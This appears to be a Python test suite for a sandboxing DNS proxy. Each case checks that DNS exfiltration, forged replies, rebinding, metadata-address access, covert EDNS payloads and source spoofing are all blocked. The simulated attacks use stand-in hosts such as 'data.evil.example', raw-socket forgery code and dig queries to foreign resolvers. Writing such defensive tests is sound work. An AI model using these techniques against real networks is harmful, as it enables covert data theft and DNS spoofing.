# SPDX-License-Identifier: Apache-2.0
"""A. DNS as a channel."""

import json
import sys

import dnswire
from harness import Skip, absent, blocked, case, equal, found, refused, untouched, worked
from plan import CRAFTED4, EVIL4, EVIL6, FOREIGN4, FOREIGN6, RESOLVER4, RESOLVER6

ALLOW = ["--allow", "github.com"]
QUIET = [*ALLOW, "--summary", "none"]


def nothing_left(lab, *words):
    """The witness: no query for a name that holds one of these words left the client."""
    for query in lab.upstream_queries():
        name = dnswire.parse(query)["questions"][0][0].lower()
        assert not any(word in name for word in words), f"a query for {name!r} left"


def rcodes(lab, source, options=ALLOW, **others):
    r = lab.attack(options, source, **others)
    equal(r.status, 0, "exit status")
    return r, r.facts


@case("A1 DNS over UDP and TCP to a foreign resolver, v4 and v6: the policy answers, no packet leaves")
def foreign_resolver(lab):
    r, facts = rcodes(lab, """
        allowed, denied = dnswire.query("github.com"), dnswire.query("data.evil.example")
        for server in (FOREIGN4, FOREIGN6):
            report(**{f"{server} udp": [dns_udp(server, q)["rcode"] for q in (allowed, denied)],
                      f"{server} tcp": [dns_tcp(server, [q])[0x1234]["rcode"] for q in (allowed, denied)]})
    """)
    equal(set(map(json.dumps, facts.values())), {'["NOERROR", "NXDOMAIN"]'}, f"answers {facts}")
    found(r, "dns_blocked", dst_hostname="data.evil.example")
    untouched(lab, FOREIGN4, FOREIGN6)
    nothing_left(lab, "evil")


@case("A1 dig, with its own idea of the server, over UDP and TCP")
def dig(lab):
    r = lab.run(QUIET, ["sh", "-c", f"""
        for server in {FOREIGN4} {FOREIGN6}; do for how in +notcp +tcp; do
        dig +time=5 +tries=1 $how @$server data.evil.example TXT | grep -o 'status: [A-Z]*'
        dig +time=5 +tries=1 $how +short @$server github.com A
        done; done"""])
    equal(r.out.splitlines(), ["status: NXDOMAIN", "203.0.113.10"] * 4, "dig")
    found(r, "dns_blocked", dst_hostname="data.evil.example")
    untouched(lab, FOREIGN4, FOREIGN6)


@case("A1 split and pipelined TCP frames")
def split_frames(lab):
    r, facts = rcodes(lab, """
        messages = [dnswire.query(n, ident=i) for i, n in enumerate(
            ["github.com", "a.evil.example", "api.github.com", "b.evil.example", "absent.github.com"], 1)]
        for chunk in (None, 1, 2, 3, 31):
            replies = dns_tcp(FOREIGN4, messages, chunk=chunk)
            report(**{f"chunk {chunk}": [replies[i]["rcode"] for i in range(1, 6)]})
    """)
    for what, answers in facts.items():
        equal(answers, ["NOERROR", "NXDOMAIN", "NOERROR", "NXDOMAIN", "NXDOMAIN"], what)
    equal(len(facts), 5, "facts")
    untouched(lab, FOREIGN4)
    nothing_left(lab, "evil")


@case("A1 a TCP frame that is cut, empty or too long harms nobody else")
def broken_frames(lab):
    _, facts = rcodes(lab, """
        for name, data in (("empty", b"\\0\\0"), ("cut", b"\\0\\x20abc"), ("long", b"\\xff\\xff" + b"x" * 70000),
                           ("short", b"\\0\\x01x"), ("half", b"\\0")):
            with new_socket(FOREIGN4, socket.SOCK_STREAM) as s:
                s.connect((FOREIGN4, 53))
                try:
                    s.sendall(data)
                    s.shutdown(socket.SHUT_WR)
                    while s.recv(4096):
                        pass
                except OSError:
                    pass
        report(after=dns_tcp(FOREIGN4, [dnswire.query("github.com")])[0x1234]["rcode"])
    """)
    equal(facts, {"after": "NOERROR"}, "a good query after bad ones")
    untouched(lab, FOREIGN4)


@case("A1 sockets show the server the client asked for: getpeername, source of replies, v4, v6 and mapped")
def server_shown(lab):
    _, facts = rcodes(lab, """
        question = dnswire.query("github.com")
        def ask(family, kind, server, connect):
            with socket.socket(family, kind) as s:
                s.settimeout(LIMIT)
                peer = source = None
                if connect:
                    s.connect((server, 53))
                    peer = s.getpeername()[:2]
                if kind == socket.SOCK_STREAM:
                    s.sendall(struct.pack("!H", len(question)) + question)
                    s.recv(2)
                elif connect:
                    s.send(question)
                    source = s.recvfrom(4096)[1][:2]
                else:
                    s.sendto(question, (server, 53))
                    source = s.recvfrom(4096)[1][:2]
                return {tuple(x) for x in (peer, source) if x} == {(server, 53)} or [peer, source]
        for family, server in ((socket.AF_INET, FOREIGN4), (socket.AF_INET6, FOREIGN6),
                               (socket.AF_INET6, "::ffff:" + FOREIGN4)):
            report(**{f"{server} tcp": ask(family, socket.SOCK_STREAM, server, True),
                      f"{server} udp connected": ask(family, socket.SOCK_DGRAM, server, True),
                      f"{server} udp": ask(family, socket.SOCK_DGRAM, server, False)})
    """)
    equal({k: v for k, v in facts.items() if v is not True}, {}, "sockets that saw another address")
    equal(len(facts), 9, "sockets")
    untouched(lab, FOREIGN4, FOREIGN6)


@case("A1 one UDP socket that asks two resolvers hears each under its own address")
def two_resolvers(lab):
    _, facts = rcodes(lab, """
        with new_socket(FOREIGN4, socket.SOCK_DGRAM) as s:
            seen = []
            for server in (RESOLVER4, FOREIGN4, RESOLVER4):
                s.sendto(dnswire.query("github.com"), (server, 53))
                seen.append(s.recvfrom(4096)[1][0] == server)
            report(seen=seen)
    """)
    equal(facts["seen"], [True] * 3, "sources")


@case("A2 DoT, DoH and DoQ to the resolver's address are refused")
def encrypted_dns(lab):
    r = lab.attack(ALLOW, """
        for addr in (RESOLVER4, RESOLVER6, FOREIGN4, FOREIGN6):
            report(**{f"dot {addr}": attempt(tcp, addr, 853), f"doh {addr}": attempt(reach, addr, 443),
                      f"doq {addr}": attempt(udp, addr, 853), f"doh3 {addr}": attempt(udp, addr, 443)})
    """)
    refused(r, *r.facts)
    equal(len(r.facts), 16, "attempts")
    untouched(lab, RESOLVER4, RESOLVER6, FOREIGN4, FOREIGN6)


@case("A4 PTR: only for addresses that were leased, and with the name that was asked")
def ptr(lab):
    r, facts = rcodes(lab, """
        def ptr(name):
            reply = dns_udp(RESOLVER4, dnswire.query(name, "PTR"))
            return [reply["rcode"]] + [a[3].rstrip(".") for a in reply["answers"]]
        report(before=ptr("10.113.0.203.in-addr.arpa"))
        resolve("github.com")
        v6 = "".join(f"{c}." for c in reversed(socket.inet_pton(socket.AF_INET6, GITHUB6).hex())) + "ip6.arpa"
        report(after=ptr("10.113.0.203.in-addr.arpa"), six=ptr(v6), evil=ptr("66.113.0.203.in-addr.arpa"),
               data=ptr("data.evil.example"), odd=ptr("300.113.0.203.in-addr.arpa"),
               partial=ptr("113.0.203.in-addr.arpa"))
    """)
    equal((facts["after"], facts["six"]), (["NOERROR", "github.com"],) * 2, "leased addresses")
    for name in ("before", "evil", "data", "odd", "partial"):
        assert facts[name][0] == "NXDOMAIN" and len(facts[name]) == 1, f"{name}: {facts[name]}"
    nothing_left(lab, "in-addr", "arpa", "evil")


@case("A5 an allowed name has no records of TXT, NULL, ANY and unknown types, which is no denial; MX, NS, SOA and SRV are served")
def types(lab):
    r, facts = rcodes(lab, """
        SERVED = ("SRV", "MX", "NS", "SOA")
        for qtype in ("TXT", "NULL", "SRV", "MX", "NS", "SOA", "ANY", 99, 252, 251, 65280):
            reply = dns_udp(RESOLVER4, dnswire.query("github.com", qtype))
            report(**{f"type {qtype}": [reply["rcode"], len(reply["answers"]) if qtype not in SERVED else 0]})
        report(a=dns_udp(RESOLVER4, dnswire.query("github.com"))["rcode"],
               aaaa=dns_udp(RESOLVER4, dnswire.query("github.com", "AAAA"))["rcode"])
    """)
    equal((facts.pop("a"), facts.pop("aaaa")), ("NOERROR", "NOERROR"), "A and AAAA")
    equal(list(facts.values()), [["NOERROR", 0]] * 11, f"answers {facts}")
    absent(r, "dns_blocked")
    for query in lab.upstream_queries():
        assert dnswire.parse(query)["questions"][0][1] in (1, 2, 6, 15, 28, 33), f"left: {query!r}"


@case("A5 classes other than IN are refused; several questions, none, and answers as questions are errors")
def classes_and_counts(lab):
    r, facts = rcodes(lab, """
        import attacker
        question = dnswire.query("github.com")
        def ask(message):
            return attempt(dns_rcode, RESOLVER4, message).get("value", "silence")
        attacker.LIMIT = 1.5
        report(chaos=ask(dnswire.query("version.bind", "TXT", qclass=3)),
               chaos_a=ask(dnswire.query("github.com", "A", qclass=3)),
               any_class=ask(dnswire.query("github.com", "A", qclass=255)),
               two=ask(dnswire.query("github.com", n_questions=2)),
               none=ask(dnswire.query("github.com", n_questions=0)), response=ask(b"\\x12\\x34\\x81" + question[3:]),
               notify=ask(b"\\x12\\x34\\x20" + question[3:]), cut=ask(question[:-3]), header=ask(question[:11]),
               loop=ask(question[:12] + b"\\xc0\\x0c\\0\\x01\\0\\x01"), trailing=ask(question + b"extra"))
    """)
    wanted = {"chaos": ("REFUSED",), "chaos_a": ("REFUSED",), "any_class": ("REFUSED",), "two": ("FORMERR",),
              "none": ("FORMERR",), "response": ("silence",), "notify": ("NOTIMP",), "cut": ("FORMERR", "silence"),
              "header": ("silence",), "loop": ("FORMERR", "silence"), "trailing": ("FORMERR", "silence")}
    for what, answers in wanted.items():
        assert facts[what] in answers, f"{what}: wanted {answers}, got {facts[what]}"
    equal(lab.upstream_queries(), [], "queries that left")


@case("A5 HTTPS records come without ech and without address hints")
def https_record(lab):
    r, facts = rcodes(lab, """
        reply = dns_udp(RESOLVER4, dnswire.query("github.com", "HTTPS"))
        report(rcode=reply["rcode"], records=[a[3] for a in reply["answers"] if a[1] == 65])
    """)
    equal((facts["rcode"], len(facts["records"])), ("NOERROR", 1), "answer")
    data = bytes.fromhex(facts["records"][0])
    at, keys = 2 + data[2:].index(0) + 1, []
    while at < len(data):
        keys.append(int.from_bytes(data[at:at + 2], "big"))
        at += 4 + int.from_bytes(data[at + 2:at + 4], "big")
    equal(keys, [1], "SvcParamKeys: alpn alone")


@case("A6 unrelated records, detours and loops in an answer open nothing")
def unrelated(lab):
    r, facts = rcodes(lab, """
        def ask(name):
            reply = dns_udp(RESOLVER4, dnswire.query(name))
            return [reply["rcode"], [a[3] for a in reply["answers"]], reply["n_authority"], reply["n_additional"]]
        report(unrelated=ask("unrelated.github.com"), detour=ask("detour.github.com"), loop=ask("loop.github.com"),
               evil=attempt(tcp, EVIL4, 7))
    """, [*ALLOW, "--upstream", CRAFTED4])
    equal(facts["unrelated"], ["NOERROR", ["203.0.113.10"], 0, 0], "an answer with a stranger")
    equal(facts["detour"][1], [], "records of a chain that begins elsewhere")
    equal(facts["loop"][:2], ["SERVFAIL", []], "a loop")
    refused(r, "evil")
    untouched(lab, EVIL4)


@case("A7 forged answers with a wrong id, case or question are not believed; the true one is")
def forged(lab):
    r, facts = rcodes(lab, """
        for name in ("wrongid", "wrongcase", "wrongquestion", "twice", "honest"):
            report(**{name: resolve(name + ".github.com")})
        report(evil=attempt(tcp, EVIL4, 7))
    """, [*ALLOW, "--upstream", CRAFTED4])
    refused(r, "evil")
    for name in ("wrongid", "wrongcase", "wrongquestion", "twice", "honest"):
        assert EVIL4 not in facts[name], f"{name}: {facts[name]}"
    for name in ("wrongid", "twice", "honest"):
        equal(facts[name], ["203.0.113.10"], name)
    untouched(lab, EVIL4)


FORGER = """
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    wire.settimeout(LIMIT)
    print("up", flush=True)
    while True: # the query as it leaves: its id, its case and its port are known, and need not be guessed
        packet = wire.recv(2048)
        if packet[0] == 0x45 and packet[9] == 17 and packet[16:20] == socket.inet_aton(CRAFTED4):
            break
    client, port = socket.inet_ntoa(packet[12:16]), int.from_bytes(packet[20:22], "big")
    query = packet[28:]
    question = query[12:query.index(0, 12) + 5]
    record = bytes((0xc0, 12, 0, 1, 0, 1, 0, 0, 1, 0x2c, 0, 4)) + socket.inet_aton(EVIL4)
    forged = query[:2] + bytes((0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0)) + question + record
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IP, 19, 1) # IP_TRANSPARENT
        s.bind((CRAFTED4, 53))
        report(sent=s.sendto(forged, (client, port)) == len(forged))
"""


@case("A7 an answer in the resolver's name that this machine sends to itself is not believed")
def forged_here(lab):
    forger = lab.start_plain(lab.python(FORGER))
    equal(forger.read_line(), b"up\n", "the forger")
    r, facts = rcodes(lab, """
        with new_socket(RESOLVER4, socket.SOCK_DGRAM) as s:
            s.settimeout(20)
            s.sendto(dnswire.query("silent.github.com"), (RESOLVER4, 53))
            reply = dnswire.parse(s.recv(4096))
        report(reply=[reply["rcode"], *(a[3] for a in reply["answers"])], evil=attempt(tcp, EVIL4, 7))
    """, [*ALLOW, "--upstream", CRAFTED4], seconds=60)
    forged = forger.finish()
    assert forged.facts.get("sent"), f"the forged answer was not sent: {forged}"
    equal(facts["reply"], ["SERVFAIL"], "the answer")
    refused(r, "evil")
    untouched(lab, EVIL4)


@case("A7 upstream queries have random ids and mixed case, and leave from several ports")
def randomness(lab):
    lab.attack(ALLOW, "for i in range(30): resolve(f'n{i}.github.com')")
    queries = [dnswire.parse(q) for q in lab.upstream_queries()]
    assert len(queries) >= 30, len(queries)
    assert len({q["id"] for q in queries}) > len(queries) * 0.9, "ids repeat"
    names = [q["questions"][0][0] for q in queries]
    assert sum(n != n.lower() and n != n.upper() for n in names) > len(names) * 0.7, f"case: {names[:5]}"


@case("A8 rebinding: names that answer with loopback, private, link-local or embedding addresses are refused")
def rebinding(lab):
    names = ("loopback", "loopback6", "private", "metadata", "mapped", "nat64", "ula")
    r, facts = rcodes(lab, f"""
        report(**{{n: resolve(n + ".rebind.example") for n in {names}}})
        report(private_tcp=attempt(tcp, "10.99.0.1", 7), metadata_tcp=attempt(reach, "169.254.169.254", 80),
               mapped_tcp=attempt(tcp, "::ffff:10.99.0.1", 7), ula_tcp=attempt(tcp, "fd99::1", 7))
    """, ["--allow", "rebind.example"])
    for name in names:
        assert isinstance(facts[name], str), f"{name}: {facts[name]}"
    refused(r, "private_tcp", "metadata_tcp", "mapped_tcp", "ula_tcp")
    found(r, "dns_blocked", dst_hostname="loopback.rebind.example")
    untouched(lab, "10.99.0.1", "169.254.169.254", "fd99::1", "64:ff9b::a63:1")


@case("A9 mDNS, LLMNR and the multicast behind them are refused")
def side_doors(lab):
    r = lab.attack(ALLOW, """
        report(mdns=attempt(udp, "224.0.0.251", 5353), llmnr=attempt(udp, "224.0.0.252", 5355),
               mdns6=attempt(udp, "ff02::fb%eth0", 5353), unicast=attempt(udp, RESOLVER4, 5353),
               llmnr_tcp=attempt(tcp, RESOLVER4, 5355))
    """)
    refused(r, "mdns", "llmnr", "unicast", "llmnr_tcp")
    fact = r.facts["mdns6"]
    assert "errno" in fact and fact["ms"] < 1000, f"mdns6: {fact}"
    untouched(lab, "224.0.0.251", "224.0.0.252", "ff02::fb", RESOLVER4)


NAME_SERVICE = """
import os, socket, subprocess, sys
subprocess.run(["mount", "-t", "tmpfs", "none", "/run"], check=True)
path = "/run/systemd/resolve/io.systemd.Resolve"
os.makedirs(os.path.dirname(path))
with socket.socket(socket.AF_UNIX) as server:
    server.bind(path)
    os.chmod(path, 0o777)
    server.listen()
    ask = [sys.executable, "-c", f"import socket; socket.socket(socket.AF_UNIX).connect('{path}')"]
    for command in ask, [sys.argv[1], "run", "--", *ask]:
        print(subprocess.run(command, stderr=subprocess.PIPE).returncode, flush=True)
"""


@case("A9 the sockets of local name services are covered: look-ups cannot go past the proxy")
def name_services(lab):
    with open("/proc/self/mountinfo") as f:
        if not any(line.split()[4] == "/" for line in f):
            raise Skip("the root is no mount point, so nothing can be mounted for one process alone")
    r = lab.plain("unshare", "--mount", "--propagation=unchanged", sys.executable, "-c", NAME_SERVICE, lab.binary)
    equal(r.out.split(), ["0", "1"], "exit status outside and inside")


@case("A11 the proxy's own upstream, asked directly, is the proxy again")
def upstream_directly(lab):
    r, facts = rcodes(lab, """
        report(denied=dns_udp(CRAFTED4, dnswire.query("evil.example"))["rcode"],
               allowed=dns_udp(CRAFTED4, dnswire.query("honest.github.com"))["rcode"], dot=attempt(tcp, CRAFTED4, 853))
    """, [*ALLOW, "--upstream", CRAFTED4])
    equal((facts["denied"], facts["allowed"]), ("NXDOMAIN", "NOERROR"), "answers")
    refused(r, "dot")
    nothing_left(lab, "evil")


@case("A12 EDNS options, ids and case of the client do not reach the upstream; the reply keeps the client's case")
def covert(lab):
    r, facts = rcodes(lab, """
        option = struct.pack("!HH", 65001, 14) + b"EXFILTRATEDATA"
        reply = dns_udp(RESOLVER4, dnswire.query("GiThUb.CoM", ident=0xBEEF, edns=option))
        report(id=reply["id"], name=reply["questions"][0][0], answers=reply["answers"])
        padding = struct.pack("!HH", 12, 400) + b"P" * 400
        padded = dns_udp(RESOLVER4, dnswire.query("v4.github.com", edns=padding))
        report(padded=padded["rcode"])
    """)
    equal((facts["id"], facts["name"]), (0xBEEF, "GiThUb.CoM"), "id and name in the reply")
    equal(facts["answers"][0][0].lower(), "github.com", "owner")
    queries = lab.upstream_queries()
    assert queries, "nothing was asked upstream"
    for query in queries:
        assert b"EXFILTRATE" not in query and b"PPPP" not in query and len(query) < 80, f"left: {query!r}"
        parsed = dnswire.parse(query)
        assert parsed["questions"][0][0] != "GiThUb.CoM" or len(queries) > 1, "the client's case left"


@case("A12 dig sees its own spelling in the answer")
def dig_case(lab):
    r = lab.run(QUIET, ["dig", "+qr", "+time=5", "+tries=1", "GitHUB.com", "A"])
    equal(r.status, 0, "dig")
    answer = r.out.split("ANSWER SECTION:")[-1].splitlines()[1]
    assert answer.split()[0] in ("GitHUB.com.", "github.com.") and "203.0.113.10" in answer, r.out
    assert r.out.count("GitHUB.com.") >= 2, r.out


PROXY_PORTS = """
    def proxy_ports(kind):
        for line in open(f"/proc/net/{kind}").readlines()[1:]:
            addr, port = line.split()[1].split(":")
            waits = line.split()[3] == ("0A" if kind == "tcp" else "07") # listens; is not connected
            if addr == "0100007F" and waits:
                yield int(port, 16)

    def silence(port, source=0, tcp=False, name="stranger.github.com"):
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as s:
            s.settimeout(1)
            s.bind(("127.0.0.1", source))
            try:
                s.connect(("127.0.0.1", port))
                s.sendall((b"\\0\\x25" if tcp else b"") + dnswire.query(name))
                return len(s.recv(4096))
            except TimeoutError:
                return "silence"
            except PermissionError:
                return "refused"
"""


def victim(lab, options):
    """A run that has looked a name up, and says from which port."""
    run = lab.start([*options, "--fail-on-denied"], lab.python(f"""
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(LIMIT)
        s.sendto(dnswire.query("github.com"), (RESOLVER4, 53))
        rcode = dnswire.parse(s.recv(4096))["rcode"]
        port = s.getsockname()[1]
        s.close()
        print(port, flush=True)
        input()
        report(before=rcode, after=resolve("api.github.com"))
    """))
    return run, int(run.read_line())


def silent(facts):
    assert facts and set(facts) >= {"udp", "tcp"}, facts
    for what, answers in facts.items():
        assert answers and set(answers) == {"silence"}, f"{what}: {answers}"


@case("A13 who finds the port of a run's proxy is not answered: a process outside, also from a port of the run")
def stranger_outside(lab):
    run, source = victim(lab, ALLOW)
    r = lab.plain(*lab.python(PROXY_PORTS + f"""
    names = ("stranger.github.com", "stranger.evil.example")
    report(udp=[silence(port, name=name) for port in proxy_ports("udp") for name in names],
           reused=[silence(port, {source}, name=name) for port in proxy_ports("udp") for name in names],
           tcp=[silence(port, tcp=True) for port in proxy_ports("tcp")])
    """))
    silent(r.facts)
    r = run.finish(b"\n")
    equal(r.status, 0, "nothing was denied to the command")
    assert "queries to the DNS proxy came from processes that are not of this run" in r.err, r.err
    assert r.facts["before"] == "NOERROR" and isinstance(r.facts["after"], list), f"own look-ups: {r.facts}"
    absent(r, "dns_blocked")
    nothing_left(lab, "stranger")


@case("A13 who finds the port of a run's proxy is not answered: the command of another run, or of a run inside the run")
def stranger_in_a_run(lab):
    run, _ = victim(lab, ["--allow", "evil.example", *ALLOW])
    source = PROXY_PORTS + """
    own = {socket.socket(socket.AF_INET, socket.SOCK_DGRAM)}
    report(udp=[silence(port) for port in proxy_ports("udp")], tcp=[silence(port, tcp=True) for port in proxy_ports("tcp")])
    """
    r = lab.attack([*QUIET], source)
    for what in ("udp", "tcp"): # the own one refuses, the other one does not answer
        equal(sorted(r.facts[what]), ["refused", "silence"], what)
    r = lab.run(["--allow", "*.github.com", "--summary", "none"],
                [lab.binary, "run", "--summary", "none", "--user", "job", "--", *lab.python(source)], user="root")
    for what in ("udp", "tcp"): # that of the run around it as well
        equal(sorted(r.facts[what]), ["refused", "refused", "silence"], what)
    equal(run.finish(b"\n").status, 0, "nothing was denied to the command")
    nothing_left(lab, "stranger")


@case("A13 a source that is not of this machine: no server on loopback, the proxy included, carries a reply away")
def reply_elsewhere(lab):
    echo = lab.start_plain(lab.python("""
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        s.bind(("::1", 4007))
        print("up", flush=True)
        while True:
            data, peer = s.recvfrom(2048)
            s.sendto(data, peer)
    """))
    equal(echo.read_line(), b"up\n", "the local server")
    r, facts = rcodes(lab, """
        def from_elsewhere(server, port, data, connect):
            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
                s.setsockopt(socket.IPPROTO_IPV6, 78, 1) # IPV6_FREEBIND
                s.bind((EVIL6, 7))
                if connect:
                    s.connect((server, port))
                    return s.send(data)
                return s.sendto(data, (server, port))
        def open_elsewhere(server, port):
            with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
                s.settimeout(1)
                s.setsockopt(socket.IPPROTO_IPV6, 78, 1)
                s.bind((EVIL6, 0))
                return s.connect((server, port))
        question = dnswire.query("secret.evil.example")
        report(local=attempt(udp, "::1", 4007)["value"],
               tcp=attempt(open_elsewhere, RESOLVER6, 53).get("errno"),
               others=[attempt(from_elsewhere, *a).get("errno") for a in (
                   (RESOLVER6, 53, question, False), (RESOLVER6, 53, question, True),
                   ("::1", 4007, b"secret", False), ("::1", 4007, b"secret", True))])
        time.sleep(1)
    """)
    echo.process.kill()
    equal(facts["local"], "hello", "the local server answers a source of this machine")
    assert set(facts["others"]) <= {"EPERM", "EACCES"}, f"datagrams: {facts}"
    assert facts["tcp"], "a connection was made"
    untouched(lab, EVIL6)


@case("A14 odd bytes in names are refused, logged on one line, and never asked upstream")
def odd_names(lab):
    r, facts = rcodes(lab, """
        names = ([b'a"b', b"evil", b"example"], [b"a\\nb\\x1b[31m", b"github", b"com"],
                 [b"\\xff\\xfe", b"github", b"com"], [b"a.b", b"github", b"com"], [b"\\0x", b"github", b"com"],
                 [b"x" * 63] * 3 + [b"github", b"com"], [b"::error::x", b"github", b"com"])
        report(rcodes=[attempt(dns_rcode, RESOLVER4, dnswire.query(n)).get("value") for n in names])
    """)
    for rcode in facts["rcodes"][:5]:
        assert rcode in ("REFUSED", "FORMERR"), facts
    assert b"\x1b" not in r.log_text, "an escape character in the log"
    nothing_left(lab, "evil", "a.b", "error", '"')


@case("A6 the target of a CNAME can be asked once its chain is known, and not before")
def derived(lab):
    r, facts = rcodes(lab, """
        report(before=resolve("edge.cdn.example"), chain=resolve("www.shop.example"), after=resolve("edge.cdn.example"),
               sub=resolve("data.edge.cdn.example"))
    """, ["--allow", "www.shop.example"])
    equal((facts["before"], facts["sub"]), ("EAI NONAME", "EAI NONAME"), "names outside the chain")
    equal(facts["after"], facts["chain"], "a name on the chain")


@case("B10 B13 nothing is implied: gateway, neighbours, metadata, private and multicast addresses are refused")
def nothing_implied(lab):
    r = lab.attack(ALLOW, """
        report(gateway=attempt(tcp, GATEWAY4, 7), gateway6=attempt(tcp, GATEWAY6, 7),
               metadata=attempt(reach, "169.254.169.254", 80), private=attempt(tcp, "10.99.0.1", 7),
               multicast=attempt(udp, "239.1.1.1", 8000), ula=attempt(tcp, "fd99::1", 7),
               broadcast=attempt(udp, "10.77.0.255", 8000))
    """)
    refused(r, "gateway", "gateway6", "metadata", "private", "multicast", "ula")
    assert "errno" in r.facts["broadcast"], r.facts
    untouched(lab, "169.254.169.254", "10.99.0.1", "239.1.1.1", "fd99::1", "10.77.0.255")


@case("loopback and the host's own addresses pass")
def loopback(lab):
    r = lab.attack(ALLOW, """
        import threading
        def serve(addr):
            listener = socket.create_server((addr, 0), family=family_of(addr))
            def answer():
                c = listener.accept()[0]
                c.sendall(c.recv(16))
                c.close()
            threading.Thread(target=answer, daemon=True).start()
            return listener.getsockname()[1]
        report(**{addr: attempt(tcp, addr, serve(addr)) for addr in ("127.0.0.1", "::1", CLIENT4, CLIENT6)})
    """)
    worked(r, "127.0.0.1", "::1", "10.77.0.2", "fd77::2")
    absent(r, "connection_blocked")
